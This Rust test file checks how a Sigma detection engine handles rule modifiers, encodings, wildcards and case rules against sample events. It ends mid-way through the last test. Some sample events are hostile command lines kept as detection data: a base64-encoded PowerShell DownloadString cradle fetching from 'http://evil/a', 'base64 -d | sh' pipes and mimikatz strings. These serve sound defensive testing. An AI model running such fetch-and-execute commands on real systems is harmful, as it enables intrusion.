//! Sigma v2 semantics, feature by feature, checked against the Sigma
//! specification (SigmaHQ/sigma-specification:
//! `specification/sigma-rules-specification.md` v2.0.0,
//! `specification/sigma-appendix-modifiers.md` v2.1.0,
//! `specification/sigma-filters-specification.md` v2.0.0).
//!
//! Each test is a table: a rule's `detection:` section and events with the
//! expected outcome, positive and negative. Routing is off, so logsources do
//! not matter and only the detection logic is exercised.
//!
//! Where the engine disagrees with the specification the test states the
//! specification's behaviour and is `#[ignore = "engine bug: ..."]`; run them
//! with `cargo test -p killchain-detect --test semantics -- --ignored`.

use base64::engine::general_purpose::STANDARD;
use base64::Engine as _;
use killchain_detect::{
    Engine, JsonEvent, LoadReport, Options, Outcome, Pipeline, PipelineFile, RuleText, Scratch,
};
use serde_json::{json, Value};

// ---------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------

const RULE_ID: &str = "5f1c2d3e-0000-4000-8000-000000000001";

/// A complete rule around a `detection:` section (given unindented).
fn rule_text(detection: &str) -> String {
    rule_text_with(RULE_ID, "Test rule", detection)
}

fn rule_text_with(id: &str, title: &str, detection: &str) -> String {
    let mut s = format!(
        "title: {title}\nid: {id}\nstatus: test\nlogsource:\n  product: windows\n  category: process_creation\ndetection:\n"
    );
    for line in detection.lines() {
        s.push_str("  ");
        s.push_str(line);
        s.push('\n');
    }
    s.push_str("level: high\n");
    s
}

fn opts() -> Options {
    Options {
        routing: false,
        ..Default::default()
    }
}

fn build(pipeline: &Pipeline, texts: &[String]) -> (Engine, LoadReport) {
    let texts: Vec<RuleText> = texts
        .iter()
        .enumerate()
        .map(|(i, t)| RuleText {
            path: format!("rule{i}.yml"),
            text: t.clone(),
        })
        .collect();
    Engine::build(&texts, pipeline, &opts())
}

fn engine_with(pipeline: &Pipeline, detection: &str) -> Engine {
    let (engine, report) = build(pipeline, &[rule_text(detection)]);
    assert_eq!(
        report.loaded(),
        1,
        "rule did not load: {:?}\ndetection:\n{detection}",
        report.entries
    );
    engine
}

/// Indexes of the matching rules.
fn hits(engine: &Engine, event: &Value) -> Vec<usize> {
    let mut out = Vec::new();
    engine.evaluate(&JsonEvent(event), &mut Scratch::default(), &mut out);
    out
}

fn matches(engine: &Engine, event: &Value) -> bool {
    !hits(engine, event).is_empty()
}

/// Runs every case; fails listing all the cases that went wrong.
fn check_with(pipeline: &Pipeline, detection: &str, cases: &[(Value, bool)]) {
    let engine = engine_with(pipeline, detection);
    let failures: Vec<String> = cases
        .iter()
        .filter(|(event, want)| matches(&engine, event) != *want)
        .map(|(event, want)| {
            format!(
                "  event {event} -> expected {}",
                if *want { "MATCH" } else { "NO MATCH" }
            )
        })
        .collect();
    assert!(
        failures.is_empty(),
        "detection:\n{detection}\nfailing cases:\n{}",
        failures.join("\n")
    );
}

fn check(detection: &str, cases: &[(Value, bool)]) {
    check_with(&Pipeline::default(), detection, cases)
}

/// `cases![{json} => bool, ...]`
macro_rules! cases {
    ($($event:tt => $want:expr),* $(,)?) => {
        &[$((json!($event), $want)),*]
    };
}

fn b64(bytes: &[u8]) -> String {
    STANDARD.encode(bytes)
}
fn utf16le(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}
fn utf16be(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_be_bytes).collect()
}

fn pipeline_with_placeholders(yaml: &str) -> Pipeline {
    let file = PipelineFile::from_yaml(yaml, "test-placeholders.yml").expect("pipeline parses");
    let mut p = Pipeline::default();
    p.add(file, "test-placeholders.yml").expect("pipeline adds");
    p
}

/// The outcome of the only rule document of a text.
fn outcome_of(pipeline: &Pipeline, text: &str) -> Outcome {
    let (_, report) = build(pipeline, &[text.to_string()]);
    assert_eq!(report.entries.len(), 1, "{:?}", report.entries);
    report.entries[0].outcome.clone()
}

// ---------------------------------------------------------------------------
// contains / startswith / endswith / all
// ---------------------------------------------------------------------------

#[test]
fn contains_matches_anywhere_case_insensitively() {
    check(
        r#"sel:
  CommandLine|contains: 'mimikatz'
condition: sel"#,
        cases![
            {"CommandLine": "run MimiKatz.exe now"} => true,
            {"CommandLine": "mimikatz"} => true,
            {"CommandLine": "xmimikatzx"} => true,
            {"CommandLine": "mimi katz"} => false,
            {"CommandLine": ""} => false,
            {"Other": "mimikatz"} => false,
            {} => false,
        ],
    );
}

#[test]
fn contains_list_is_or() {
    check(
        r#"sel:
  CommandLine|contains:
    - ' -nop '
    - ' -enc '
condition: sel"#,
        cases![
            {"CommandLine": "powershell -nop -w hidden"} => true,
            {"CommandLine": "powershell -enc AAAA"} => true,
            {"CommandLine": "powershell -command x"} => false,
        ],
    );
}

#[test]
fn startswith_anchors_at_the_start() {
    check(
        r#"sel:
  Image|startswith: 'C:\Windows\Temp\'
condition: sel"#,
        cases![
            {"Image": "C:\\Windows\\Temp\\evil.exe"} => true,
            {"Image": "c:\\windows\\temp\\evil.exe"} => true,
            {"Image": "C:\\Windows\\Temp\\"} => true,
            {"Image": "D:\\C:\\Windows\\Temp\\evil.exe"} => false,
            {"Image": "C:\\Windows\\Temp"} => false,
        ],
    );
}

#[test]
fn endswith_anchors_at_the_end() {
    check(
        r#"sel:
  Image|endswith: '\cmd.exe'
condition: sel"#,
        cases![
            {"Image": "C:\\Windows\\System32\\cmd.exe"} => true,
            {"Image": "C:\\Windows\\System32\\CMD.EXE"} => true,
            {"Image": "C:\\cmd.exe.bak"} => false,
            {"Image": "cmd.exe"} => false,
            {"Image": "C:\\notcmd.exe"} => false,
        ],
    );
}

#[test]
fn all_with_contains_needs_every_value_in_any_order() {
    check(
        r#"sel:
  CommandLine|contains|all:
    - '-nop'
    - '-enc'
condition: sel"#,
        cases![
            {"CommandLine": "powershell -nop -enc AAAA"} => true,
            {"CommandLine": "powershell -ENC AAAA -NOP"} => true,
            {"CommandLine": "powershell -nop -w hidden"} => false,
            {"CommandLine": "powershell -enc AAAA"} => false,
            {} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// re (and i / m / s)
// ---------------------------------------------------------------------------

#[test]
fn re_is_case_sensitive_by_default_and_unanchored() {
    check(
        r#"sel:
  CommandLine|re: 'Invoke-[A-Z][a-z]+'
condition: sel"#,
        cases![
            {"CommandLine": "Invoke-Mimikatz"} => true,
            {"CommandLine": "powershell Invoke-Expression (x)"} => true,
            {"CommandLine": "invoke-mimikatz"} => false,
            {"CommandLine": "INVOKE-MIMIKATZ"} => false,
            {"CommandLine": "Invoke-mimikatz"} => false,
            {} => false,
        ],
    );
}

#[test]
fn re_anchors_are_honoured() {
    check(
        r#"sel:
  Image|re: '^C:\\Windows\\[a-z]+\.exe$'
condition: sel"#,
        cases![
            {"Image": "C:\\Windows\\notepad.exe"} => true,
            {"Image": "C:\\Windows\\System32\\notepad.exe"} => false,
            {"Image": "X C:\\Windows\\notepad.exe"} => false,
            {"Image": "C:\\Windows\\notepad.exe.bak"} => false,
        ],
    );
}

#[test]
fn re_i_is_case_insensitive() {
    check(
        r#"sel:
  CommandLine|re|i: 'invoke-[a-z]+'
condition: sel"#,
        cases![
            {"CommandLine": "Invoke-Mimikatz"} => true,
            {"CommandLine": "INVOKE-MIMIKATZ"} => true,
            {"CommandLine": "invoke-"} => false,
        ],
    );
}

#[test]
fn re_m_makes_anchors_match_at_lines() {
    check(
        r#"sel:
  ScriptBlockText|re|m: '^bar$'
condition: sel"#,
        cases![
            {"ScriptBlockText": "foo\nbar\nbaz"} => true,
            {"ScriptBlockText": "bar"} => true,
            {"ScriptBlockText": "foo bar baz"} => false,
        ],
    );
    check(
        r#"sel:
  ScriptBlockText|re: '^bar$'
condition: sel"#,
        cases![
            {"ScriptBlockText": "foo\nbar\nbaz"} => false,
            {"ScriptBlockText": "bar"} => true,
        ],
    );
}

#[test]
fn re_s_makes_dot_match_newline() {
    check(
        r#"sel:
  ScriptBlockText|re|s: 'foo.bar'
condition: sel"#,
        cases![
            {"ScriptBlockText": "foo\nbar"} => true,
            {"ScriptBlockText": "foo bar"} => true,
            {"ScriptBlockText": "foobar"} => false,
        ],
    );
    check(
        r#"sel:
  ScriptBlockText|re: 'foo.bar'
condition: sel"#,
        cases![
            {"ScriptBlockText": "foo\nbar"} => false,
            {"ScriptBlockText": "foo bar"} => true,
        ],
    );
}

#[test]
fn re_flags_combine() {
    check(
        r#"sel:
  ScriptBlockText|re|i|m|s: '^start.*END$'
condition: sel"#,
        cases![
            {"ScriptBlockText": "x\nSTART\nmiddle\nend\ny"} => true,
            {"ScriptBlockText": "x START middle end"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// base64 / base64offset / utf16le / utf16be / wide / utf16
// ---------------------------------------------------------------------------

#[test]
fn base64_matches_the_encoded_value() {
    // base64('http://') = 'aHR0cDovLw=='
    assert_eq!(b64(b"http://"), "aHR0cDovLw==");
    check(
        r#"sel:
  Data|base64: 'http://'
condition: sel"#,
        cases![
            {"Data": "aHR0cDovLw=="} => true,
            {"Data": "x aHR0cDovLw=="} => false,
            {"Data": "http://"} => false,
            {"Data": "aHR0cHM6Ly8="} => false,
        ],
    );
    check(
        r#"sel:
  Data|base64|contains: 'http://'
condition: sel"#,
        cases![
            {"Data": "echo aHR0cDovLw== | base64 -d"} => true,
            {"Data": "aHR0cDovLw=="} => true,
            {"Data": "echo aHR0cHM6Ly8= | base64 -d"} => false,
        ],
    );
}

#[test]
fn base64offset_contains_finds_the_value_at_each_of_the_three_offsets() {
    let det = r#"sel:
  CommandLine|base64offset|contains: '/bin/bash'
condition: sel"#;
    // The three offset renderings (pySigma / the spec's "three variants").
    let mut cases: Vec<(Value, bool)> = ["L2Jpbi9iYXNo", "9iaW4vYmFza", "vYmluL2Jhc2"]
        .iter()
        .map(|frag| {
            (
                json!({"CommandLine": format!("echo x{frag}y | base64 -d")}),
                true,
            )
        })
        .collect();
    // Real encodings with 0, 1, 2 bytes before (and various bytes after).
    for prefix in ["", "a", "ab", "abc", "abcd"] {
        for suffix in ["", "x", "xy", " -c 'id'"] {
            let text = format!("{prefix}/bin/bash{suffix}");
            cases.push((
                json!({"CommandLine": format!("echo {} | base64 -d | sh", b64(text.as_bytes()))}),
                true,
            ));
            // Something else encoded at the same offsets.
            let other = format!("{prefix}/bin/dash{suffix}");
            cases.push((
                json!({"CommandLine": format!("echo {} | base64 -d | sh", b64(other.as_bytes()))}),
                false,
            ));
        }
    }
    cases.push((json!({"CommandLine": "/bin/bash -c id"}), false));
    cases.push((json!({}), false));
    check(det, &cases);
}

/// A PowerShell `-EncodedCommand` line: base64 of the UTF-16LE script.
fn encoded_command(script: &str) -> String {
    format!(
        "powershell.exe -NoProfile -EncodedCommand {}",
        b64(&utf16le(script))
    )
}

#[test]
fn wide_base64offset_contains_finds_powershell_encoded_commands() {
    for modifier in ["wide", "utf16le"] {
        let det = format!(
            "sel:\n  CommandLine|{modifier}|base64offset|contains: 'DownloadString'\ncondition: sel"
        );
        let mut cases: Vec<(Value, bool)> = Vec::new();
        // Characters before the value shift it by 0, 2, 4 (= 1 mod 3) bytes.
        for prefix in ["", "I", "IE", "IEX (New-Object Net.WebClient)."] {
            let script = format!("{prefix}DownloadString('http://evil/a')");
            cases.push((json!({"CommandLine": encoded_command(&script)}), true));
            // The same script in UTF-8 is not what the rule looks for. (UTF-16BE
            // is: for ASCII text it is UTF-16LE shifted by one byte, so
            // base64offset finds it too.)
            cases.push((
                json!({"CommandLine": format!("x {}", b64(script.as_bytes()))}),
                false,
            ));
            let other = format!("{prefix}DownloadFile('http://evil/a')");
            cases.push((json!({"CommandLine": encoded_command(&other)}), false));
        }
        cases.push((
            json!({"CommandLine": "powershell.exe (New-Object Net.WebClient).DownloadString('x')"}),
            false,
        ));
        check(&det, &cases);
    }
}

#[test]
fn utf16be_base64offset_contains() {
    let det = r#"sel:
  Data|utf16be|base64offset|contains: 'cmd.exe'
condition: sel"#;
    let mut cases: Vec<(Value, bool)> = Vec::new();
    for prefix in ["", "a", "ab"] {
        let text = format!("{prefix}cmd.exe /c whoami");
        cases.push((json!({"Data": b64(&utf16be(&text))}), true));
        cases.push((json!({"Data": b64(text.as_bytes())}), false));
        let other = format!("{prefix}cmd.com /c whoami");
        cases.push((json!({"Data": b64(&utf16be(&other))}), false));
    }
    check(det, &cases);
}

#[test]
fn utf16_prepends_a_byte_order_mark() {
    // Spec: `cmd` > `FF FE 63 00 6d 00 64 00`.
    assert_eq!(
        b64(&[0xFF, 0xFE, 0x63, 0, 0x6d, 0, 0x64, 0]),
        "//5jAG0AZAA="
    );
    check(
        r#"sel:
  Data|utf16|base64: 'cmd'
condition: sel"#,
        cases![
            {"Data": "//5jAG0AZAA="} => true,
            {"Data": "YwBtAGQA"} => false,
            {"Data": "Y21k"} => false,
        ],
    );
    check(
        r#"sel:
  Data|wide|base64: 'cmd'
condition: sel"#,
        cases![
            {"Data": "YwBtAGQA"} => true,
            {"Data": "//5jAG0AZAA="} => false,
        ],
    );
    check(
        r#"sel:
  Data|utf16be|base64: 'cmd'
condition: sel"#,
        cases![
            {"Data": "AGMAbQBk"} => true,
            {"Data": "YwBtAGQA"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// windash
// ---------------------------------------------------------------------------

#[test]
fn windash_accepts_every_dash_form_for_a_switch() {
    let mut cases: Vec<(Value, bool)> = ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"]
        .iter()
        .map(|d| {
            (
                json!({"CommandLine": format!("powershell.exe {d}enc AAAA")}),
                true,
            )
        })
        .collect();
    for other in ["+", "_", "\\", "~", ""] {
        cases.push((
            json!({"CommandLine": format!("powershell.exe {other}enc AAAA")}),
            false,
        ));
    }
    check(
        r#"sel:
  CommandLine|windash|contains: ' -enc '
condition: sel"#,
        &cases,
    );
}

#[test]
fn windash_varies_only_switch_dashes() {
    // `x-y` is not a switch: its dash stays a hyphen; ` -c` is one.
    check(
        r#"sel:
  CommandLine|windash|contains: 'run-once -c'
condition: sel"#,
        cases![
            {"CommandLine": "tool run-once -c"} => true,
            {"CommandLine": "tool run-once /c"} => true,
            {"CommandLine": "tool run-once \u{2014}c"} => true,
            {"CommandLine": "tool run/once -c"} => false,
            {"CommandLine": "tool run\u{2013}once -c"} => false,
        ],
    );
}

#[test]
fn windash_with_all() {
    check(
        r#"sel:
  CommandLine|windash|contains|all:
    - ' -a '
    - ' -b '
condition: sel"#,
        cases![
            {"CommandLine": "x /a -b y"} => true,
            {"CommandLine": "x \u{2015}b \u{2013}a y"} => true,
            {"CommandLine": "x /a y"} => false,
        ],
    );
}

#[test]
fn windash_exact_and_startswith() {
    check(
        r#"sel:
  CommandLine|windash|startswith: '-s'
condition: sel"#,
        cases![
            {"CommandLine": "/s rest"} => true,
            {"CommandLine": "-S rest"} => true,
            {"CommandLine": "x -s"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// cidr
// ---------------------------------------------------------------------------

#[test]
fn cidr_ipv4() {
    check(
        r#"sel:
  DestinationIp|cidr:
    - '10.0.0.0/8'
    - '192.168.1.0/24'
condition: sel"#,
        cases![
            {"DestinationIp": "10.1.2.3"} => true,
            {"DestinationIp": "10.255.255.255"} => true,
            {"DestinationIp": "192.168.1.77"} => true,
            {"DestinationIp": "192.168.2.1"} => false,
            {"DestinationIp": "11.0.0.1"} => false,
            {"DestinationIp": "fe80::1"} => false,
            {"DestinationIp": "not an ip"} => false,
            {"DestinationIp": ""} => false,
            {} => false,
        ],
    );
    check(
        r#"sel:
  DestinationIp|cidr: '8.8.8.8/32'
condition: sel"#,
        cases![
            {"DestinationIp": "8.8.8.8"} => true,
            {"DestinationIp": "8.8.8.9"} => false,
        ],
    );
}

#[test]
fn cidr_ipv6() {
    check(
        r#"sel:
  DestinationIp|cidr:
    - 'fe80::/10'
    - '::1/128'
condition: sel"#,
        cases![
            {"DestinationIp": "fe80::1"} => true,
            {"DestinationIp": "FE80::ABCD:1"} => true,
            {"DestinationIp": "febf:ffff::1"} => true,
            {"DestinationIp": "::1"} => true,
            {"DestinationIp": "fec0::1"} => false,
            {"DestinationIp": "2001:db8::1"} => false,
            {"DestinationIp": "10.0.0.1"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// exists
// ---------------------------------------------------------------------------

#[test]
fn exists_true_and_false() {
    // The spec's example: EventID 4738 with PasswordLastSet present.
    check(
        r#"sel:
  EventID: 4738
  PasswordLastSet|exists: true
condition: sel"#,
        cases![
            {"EventID": 4738, "PasswordLastSet": "%%1794"} => true,
            {"EventID": 4738, "PasswordLastSet": ""} => true,
            {"EventID": 4738} => false,
            {"EventID": 4739, "PasswordLastSet": "x"} => false,
        ],
    );
    check(
        r#"sel:
  EventID: 4738
  PasswordLastSet|exists: false
condition: sel"#,
        cases![
            {"EventID": 4738} => true,
            {"EventID": 4738, "PasswordLastSet": "x"} => false,
            {"EventID": 4738, "PasswordLastSet": ""} => false,
        ],
    );
}

// Spec (modifiers appendix v2.1.0, `exists`): "this check only verifies the
// presence of a field, not its value, be it empty or null".
#[test]
fn exists_counts_a_null_valued_field_as_present() {
    check(
        r#"sel:
  PasswordLastSet|exists: true
condition: sel"#,
        cases![
            {"PasswordLastSet": null} => true,
        ],
    );
    check(
        r#"sel:
  PasswordLastSet|exists: false
condition: sel"#,
        cases![
            {"PasswordLastSet": null} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// fieldref
// ---------------------------------------------------------------------------

#[test]
fn fieldref_compares_two_fields_of_the_event() {
    check(
        r#"sel:
  TargetImage|fieldref: SourceImage
condition: sel"#,
        cases![
            {"TargetImage": "c:\\tools\\a.exe", "SourceImage": "c:\\tools\\a.exe"} => true,
            {"TargetImage": "c:\\tools\\a.exe", "SourceImage": "c:\\tools\\b.exe"} => false,
            {"TargetImage": "c:\\tools\\a.exe"} => false,
            {"SourceImage": "c:\\tools\\a.exe"} => false,
            {"TargetImage": "c:\\tools\\a.exe", "SourceImage": "c:\\tools\\a.exe.bak"} => false,
        ],
    );
}

#[test]
fn fieldref_with_contains_startswith_endswith() {
    check(
        r#"sel:
  CommandLine|fieldref|contains: Image
condition: sel"#,
        cases![
            {"CommandLine": "\"c:\\x\\a.exe\" -run", "Image": "c:\\x\\a.exe"} => true,
            {"CommandLine": "b.exe -run", "Image": "c:\\x\\a.exe"} => false,
            {"CommandLine": "b.exe -run"} => false,
        ],
    );
    check(
        r#"sel:
  CommandLine|fieldref|startswith: Image
condition: sel"#,
        cases![
            {"CommandLine": "c:\\x\\a.exe -run", "Image": "c:\\x\\a.exe"} => true,
            {"CommandLine": "\"c:\\x\\a.exe\" -run", "Image": "c:\\x\\a.exe"} => false,
        ],
    );
    check(
        r#"sel:
  TargetFilename|fieldref|endswith: OriginalName
condition: sel"#,
        cases![
            {"TargetFilename": "c:\\temp\\evil.exe", "OriginalName": "evil.exe"} => true,
            {"TargetFilename": "c:\\temp\\evil.exe.txt", "OriginalName": "evil.exe"} => false,
        ],
    );
}

#[test]
fn fieldref_cased_is_case_sensitive() {
    check(
        r#"sel:
  TargetImage|fieldref|cased: SourceImage
condition: sel"#,
        cases![
            {"TargetImage": "C:\\A.exe", "SourceImage": "C:\\A.exe"} => true,
            {"TargetImage": "C:\\A.exe", "SourceImage": "c:\\a.exe"} => false,
        ],
    );
}

#[test]
fn fieldref_numbers() {
    check(
        r#"sel:
  ProcessId|fieldref: ParentProcessId
condition: sel"#,
        cases![
            {"ProcessId": 4, "ParentProcessId": 4} => true,
            {"ProcessId": 4, "ParentProcessId": 5} => false,
            {"ProcessId": "4", "ParentProcessId": 4} => true,
        ],
    );
}

// Sigma: "All values are treated as case-insensitive strings"; `cased`
// exists to opt out. A field reference compares values, so it is
// case-insensitive by default as well (the engine intends this: it
// lower-cases the referenced value).
#[test]
fn fieldref_is_case_insensitive_by_default() {
    check(
        r#"sel:
  TargetImage|fieldref: SourceImage
condition: sel"#,
        cases![
            // Identical values with upper-case letters.
            {"TargetImage": "C:\\Tools\\A.exe", "SourceImage": "C:\\Tools\\A.exe"} => true,
            // Different case.
            {"TargetImage": "C:\\TOOLS\\A.EXE", "SourceImage": "c:\\tools\\a.exe"} => true,
            {"TargetImage": "c:\\tools\\a.exe", "SourceImage": "C:\\TOOLS\\A.EXE"} => true,
        ],
    );
    check(
        r#"sel:
  CommandLine|fieldref|contains: Image
condition: sel"#,
        cases![
            {"CommandLine": "\"C:\\X\\A.exe\" -run", "Image": "C:\\X\\A.exe"} => true,
        ],
    );
}

// Sigma values are compared as strings; the engine compares a number with a
// numeric string in one direction but not in the other.
#[test]
fn fieldref_number_and_numeric_string_compare_equal_both_ways() {
    check(
        r#"sel:
  ProcessId|fieldref: ParentProcessId
condition: sel"#,
        cases![
            {"ProcessId": 4, "ParentProcessId": "4"} => true,
        ],
    );
}

// ---------------------------------------------------------------------------
// expand (placeholders)
// ---------------------------------------------------------------------------

const PLACEHOLDERS: &str = r#"name: test-placeholders
placeholders:
  DomainControllers: [dc1.corp.local, dc2.corp.local]
  Servers: ['srv*']
  name: [X]
"#;

#[test]
fn expand_uses_pipeline_placeholders() {
    let p = pipeline_with_placeholders(PLACEHOLDERS);
    check_with(
        &p,
        r#"sel:
  Computer|expand: '%DomainControllers%'
condition: sel"#,
        cases![
            {"Computer": "dc1.corp.local"} => true,
            {"Computer": "DC2.corp.local"} => true,
            {"Computer": "dc3.corp.local"} => false,
            {"Computer": "%DomainControllers%"} => false,
        ],
    );
    // A placeholder inside a longer value, and a placeholder value with a wildcard.
    check_with(
        &p,
        r#"sel:
  Target|expand: 'host=%Servers%.corp'
condition: sel"#,
        cases![
            {"Target": "host=srv01.corp"} => true,
            {"Target": "host=ws01.corp"} => false,
        ],
    );
}

#[test]
fn without_expand_a_placeholder_is_a_literal() {
    let p = pipeline_with_placeholders(PLACEHOLDERS);
    check_with(
        &p,
        r#"sel:
  Computer: '%DomainControllers%'
condition: sel"#,
        cases![
            {"Computer": "%DomainControllers%"} => true,
            {"Computer": "dc1.corp.local"} => false,
        ],
    );
}

#[test]
fn expand_without_a_placeholder_value_is_unsupported() {
    let text = rule_text(
        r#"sel:
  Computer|expand: '%DomainControllers%'
condition: sel"#,
    );
    match outcome_of(&Pipeline::default(), &text) {
        Outcome::Unsupported(r) => assert!(r.contains("DomainControllers"), "{r}"),
        o => panic!("expected unsupported, got {o:?}"),
    }
}

// Spec (rules v2.0.0, Placeholders): "`field|expand: \%plain%name%` handles
// `%plain` as plain value and `%name%` as placeholder".
#[test]
fn expand_honours_escaped_percent() {
    let p = pipeline_with_placeholders(PLACEHOLDERS);
    check_with(
        &p,
        r#"sel:
  Field|expand: '\%plain%name%'
condition: sel"#,
        cases![
            {"Field": "%plainX"} => true,
            {"Field": "%plain%name%"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// lt / lte / gt / gte / neq
// ---------------------------------------------------------------------------

#[test]
fn numeric_comparisons() {
    let table: [(&str, [(i64, bool); 3]); 4] = [
        ("gt", [(4, false), (5, false), (6, true)]),
        ("gte", [(4, false), (5, true), (6, true)]),
        ("lt", [(4, true), (5, false), (6, false)]),
        ("lte", [(4, true), (5, true), (6, false)]),
    ];
    for (op, rows) in table {
        for rule_value in ["5", "'5'"] {
            let det = format!("sel:\n  Count|{op}: {rule_value}\ncondition: sel");
            let mut cases: Vec<(Value, bool)> = Vec::new();
            for (n, want) in rows {
                cases.push((json!({ "Count": n }), want));
                cases.push((json!({ "Count": n.to_string() }), want));
                cases.push((json!({ "Count": n as f64 + 0.0 }), want));
            }
            cases.push((json!({"Count": "many"}), false));
            cases.push((json!({"Count": null}), false));
            cases.push((json!({}), false));
            check(&det, &cases);
        }
    }
}

#[test]
fn numeric_comparisons_with_floats_and_negatives() {
    check(
        r#"sel:
  Score|gte: 0.5
condition: sel"#,
        cases![
            {"Score": 0.5} => true,
            {"Score": 0.75} => true,
            {"Score": "0.9"} => true,
            {"Score": 0.49} => false,
            {"Score": -1} => false,
        ],
    );
    check(
        r#"sel:
  Delta|lt: -10
condition: sel"#,
        cases![
            {"Delta": -11} => true,
            {"Delta": "-20"} => true,
            {"Delta": -10} => false,
            {"Delta": 0} => false,
        ],
    );
}

#[test]
fn neq_excludes_the_values() {
    check(
        r#"sel:
  EventID: 4624
  LogonType|neq: 3
condition: sel"#,
        cases![
            {"EventID": 4624, "LogonType": 10} => true,
            {"EventID": 4624, "LogonType": 3} => false,
            {"EventID": 4624, "LogonType": "3"} => false,
        ],
    );
    check(
        r#"sel:
  User|neq: 'SYSTEM'
condition: sel"#,
        cases![
            {"User": "bob"} => true,
            {"User": "SYSTEM"} => false,
            {"User": "system"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// cased
// ---------------------------------------------------------------------------

#[test]
fn cased_is_case_sensitive() {
    check(
        r#"sel:
  Image|cased: 'C:\Windows\System32\cmd.exe'
condition: sel"#,
        cases![
            {"Image": "C:\\Windows\\System32\\cmd.exe"} => true,
            {"Image": "c:\\windows\\system32\\cmd.exe"} => false,
            {"Image": "C:\\Windows\\System32\\CMD.exe"} => false,
        ],
    );
    check(
        r#"sel:
  CommandLine|contains|cased: 'PaSsWoRd'
condition: sel"#,
        cases![
            {"CommandLine": "x PaSsWoRd y"} => true,
            {"CommandLine": "x password y"} => false,
            {"CommandLine": "x PASSWORD y"} => false,
        ],
    );
    check(
        r#"sel:
  Image|endswith|cased: '\Cmd.exe'
condition: sel"#,
        cases![
            {"Image": "C:\\x\\Cmd.exe"} => true,
            {"Image": "C:\\x\\cmd.exe"} => false,
        ],
    );
    check(
        r#"sel:
  Image|cased: 'C:\\*\Cmd.exe'
condition: sel"#,
        cases![
            {"Image": "C:\\x\\Cmd.exe"} => true,
            {"Image": "C:\\x\\cmd.exe"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// Wildcards and escapes
// ---------------------------------------------------------------------------

#[test]
fn wildcard_question_mark_is_one_character() {
    check(
        r#"sel:
  Image: 'prog?.exe'
condition: sel"#,
        cases![
            {"Image": "progA.exe"} => true,
            {"Image": "PROGb.EXE"} => true,
            {"Image": "prog\u{00c4}.exe"} => true,
            {"Image": "prog.exe"} => false,
            {"Image": "progAB.exe"} => false,
        ],
    );
}

#[test]
fn wildcard_star_is_any_run() {
    check(
        r#"sel:
  Image: 'antivirus_V*.exe'
condition: sel"#,
        cases![
            {"Image": "antivirus_V1.exe"} => true,
            {"Image": "antivirus_V21.2.1.exe"} => true,
            {"Image": "antivirus_V.exe"} => true,
            {"Image": "antivirus_V1.exe.bak"} => false,
            {"Image": "xantivirus_V1.exe"} => false,
        ],
    );
    check(
        r#"sel:
  Image: '*\temp\\*.exe'
condition: sel"#,
        cases![
            {"Image": "C:\\Users\\bob\\Temp\\a.exe"} => true,
            {"Image": "C:\\Temp\\sub\\a.exe"} => true,
            {"Image": "C:\\Temp\\a.dll"} => false,
        ],
    );
}

#[test]
fn escaped_wildcards_are_literal() {
    check(
        r#"sel:
  Value: 'a\*b'
condition: sel"#,
        cases![
            {"Value": "a*b"} => true,
            {"Value": "axb"} => false,
            {"Value": "ab"} => false,
        ],
    );
    check(
        r#"sel:
  Value: 'what\?'
condition: sel"#,
        cases![
            {"Value": "what?"} => true,
            {"Value": "whatx"} => false,
        ],
    );
    check(
        r#"sel:
  Value|contains: '\*'
condition: sel"#,
        cases![
            {"Value": "SELECT * FROM"} => true,
            {"Value": "SELECT x FROM"} => false,
        ],
    );
}

#[test]
fn backslash_escapes() {
    // A plain backslash not followed by a wildcard: `\` or `\\`.
    for v in [r"'C:\Windows\cmd.exe'", r"'C:\\Windows\\cmd.exe'"] {
        check(
            &format!("sel:\n  Image: {v}\ncondition: sel"),
            cases![
                {"Image": "C:\\Windows\\cmd.exe"} => true,
                {"Image": "C:\\\\Windows\\\\cmd.exe"} => false,
            ],
        );
    }
    // `\\*`: a backslash followed by a wildcard.
    check(
        r#"sel:
  Image: 'C:\Temp\\*'
condition: sel"#,
        cases![
            {"Image": "C:\\Temp\\a.exe"} => true,
            {"Image": "C:\\Temp\\"} => true,
            {"Image": "C:\\Temp"} => false,
        ],
    );
    // `\\\*`: a backslash followed by a literal star.
    check(
        r#"sel:
  Image: 'C:\Temp\\\*'
condition: sel"#,
        cases![
            {"Image": "C:\\Temp\\*"} => true,
            {"Image": "C:\\Temp\\a.exe"} => false,
        ],
    );
    // Three or four backslashes are a double backslash.
    for v in [r"'\\\\server\share'", r"'\\\server\share'"] {
        check(
            &format!("sel:\n  Path: {v}\ncondition: sel"),
            cases![
                {"Path": "\\\\server\\share"} => true,
                {"Path": "\\server\\share"} => false,
            ],
        );
    }
}

// ---------------------------------------------------------------------------
// Case-insensitivity
// ---------------------------------------------------------------------------

#[test]
fn matching_is_case_insensitive_by_default_including_non_ascii() {
    check(
        r#"sel:
  User: 'ÄNDERUNG\Jörg'
condition: sel"#,
        cases![
            {"User": "änderung\\jörg"} => true,
            {"User": "ÄNDERUNG\\JÖRG"} => true,
            {"User": "Änderung\\Jörg"} => true,
            {"User": "anderung\\jorg"} => false,
        ],
    );
    check(
        r#"sel:
  TargetFilename|contains: '\Ärger\'
condition: sel"#,
        cases![
            {"TargetFilename": "C:\\users\\ärger\\x"} => true,
            {"TargetFilename": "C:\\USERS\\ÄRGER\\X"} => true,
            {"TargetFilename": "C:\\users\\arger\\x"} => false,
        ],
    );
    check(
        r#"sel:
  TargetFilename: 'C:\Users\\*\ÖFFNEN?.txt'
condition: sel"#,
        cases![
            {"TargetFilename": "c:\\users\\bob\\öffnen1.TXT"} => true,
            {"TargetFilename": "c:\\users\\bob\\offnen1.txt"} => false,
        ],
    );
}

// ---------------------------------------------------------------------------
// null and empty values
// ---------------------------------------------------------------------------

#[test]
fn null_matches_absent_or_null() {
    // The spec's example.
    check(
        r#"selection:
  EventID: 4738
filter:
  PasswordLastSet: null
condition: selection and not filter"#,
        cases![
